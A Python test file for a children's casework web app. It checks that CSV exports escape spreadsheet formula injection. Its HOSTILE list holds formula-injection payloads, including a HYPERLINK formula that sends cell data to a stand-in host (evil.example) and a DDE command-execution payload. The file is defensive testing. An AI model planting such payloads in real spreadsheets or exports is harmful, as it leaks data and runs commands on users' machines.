"""Every export writes typed text as text: a spreadsheet never reads a typed value as a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import make_user
from hearth.accounts.roles import RoleCode
from hearth.casework import services as casework_services
from hearth.casework.models import CaseNote
from hearth.core.exports import FORMULA_STARTS, csv_writer, spreadsheet_cell
from hearth.front_door import performance
from hearth.front_door import services as front_door_services
from hearth.front_door.tests.conftest import unsaved_contact

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,1)", "-2+3", "@SUM(1,1)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_cell_that_could_start_a_formula_is_written_after_a_single_quote():
    for value in HOSTILE:
        assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Home visit = good") == "Home visit = good"
    assert spreadsheet_cell("'quoted already") == "'quoted already"


def test_numbers_the_code_writes_stay_numbers_even_when_negative():
    out = io.StringIO()
    csv_writer(out).writerow([-3, -2.5, 0, 12, "-3"])
    assert out.getvalue().strip() == "-3,-2.5,0,12,'-3"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_typed_text_is_written_so_that_it_starts_like_a_formula(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_every_typed_value_in_the_chronology_export_reads_back_as_text(council):
    author = make_user(HOSTILE[2], RoleCode.SOCIAL_WORKER, team=council.team)  # a name typed by an administrator
    author.first_name, author.last_name = HOSTILE[3], "Tester"
    author.save()
    child = council.allocated
    for n, text in enumerate(HOSTILE):
        casework_services.case_note_record(acting_user=author, child=child, note=CaseNote(
            kind="visit", occurred_at=timezone.now() - timedelta(hours=n), title=f"Visit {n}", body=text))
    front_door_services.contact_record(acting_user=council.adviser, children=[child], contact=unsaved_contact(
        concern=HOSTILE[0], referrer_agency=HOSTILE[1], received_at=timezone.now() - timedelta(days=2)))
    client = Client()
    client.force_login(council.worker)
    rows = rows_of(client.get(f"/children/{child.pk}/chronology.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    for text in HOSTILE:
        assert "'" + text in cells, text
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", list(performance.TABLES))
def test_every_performance_download_writes_figures_as_numbers_and_labels_as_text(council, name):
    client = Client()
    client.force_login(council.leader)
    rows = rows_of(client.get("/front-door/performance", {"format": "csv", "table": name}))
    for row in rows:
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
    for row in rows[1:]:
        for cell in row[1:]:
            if cell != "Not applicable":
                float(cell)  # a figure, not text
